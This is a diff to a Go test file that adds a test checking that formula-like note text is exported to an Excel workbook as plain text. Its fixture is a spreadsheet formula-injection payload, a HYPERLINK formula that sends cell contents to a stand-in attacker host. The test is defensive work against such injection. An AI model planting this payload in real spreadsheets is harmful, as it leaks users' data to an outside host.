@@ -11,6 +11,8 @@ import (
 	"kexie/internal/db/dbtest"
 	"kexie/internal/sheet"
 	"kexie/internal/stats"
+
+	"github.com/xuri/excelize/v2"
 )
 
 // key is a translator that names the key and its arguments; the code
@@ -156,5 +158,38 @@ func TestImportWorkbook(t *testing.T) {
 		// A workbook of sheets with no rows imports nothing.
 		_, _, err = f.s.Import(ctx, f.soc.ID, 2026, []sheet.BookSheet{{Name: "x"}}, filer)
 		wantCode(t, err, "stats.err.import_empty")
+	})
+}
+
+// Text in a workbook stays text: an explanation that looks like a formula
+// is written as a string, never as a formula Excel would run.
+func TestBookFormulaText(t *testing.T) {
+	dbtest.Run(t, sets, func(t *testing.T, d *db.DB) {
+		f := setup(t, d)
+		ctx := context.Background()
+		in := full()
+		evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
+		in.Notes["D01"] = evil
+		_, err := f.s.Save(ctx, f.county.ID, 2026, in, filer)
+		must(t, err)
+		tabs, err := f.s.Book(ctx, f.county.ID, 2026, "zh-CN", key)
+		must(t, err)
+		var buf bytes.Buffer
+		must(t, sheet.WriteXLSX(&buf, tabs...))
+		x, err := excelize.OpenReader(&buf)
+		must(t, err)
+		defer x.Close()
+		name := tabs[3].Sheet
+		rows, _ := x.GetRows(name)
+		for i, r := range rows {
+			if len(r) > 5 && r[0] == "D01" {
+				cell := fmt.Sprintf("F%d", i+1)
+				if fm, _ := x.GetCellFormula(name, cell); fm != "" || r[5] != evil {
+					t.Errorf("D01's explanation: formula %q, text %q", fm, r[5])
+				}
+				return
+			}
+		}
+		t.Errorf("no D01 row in %s: %q", name, rows)
 	})
 }
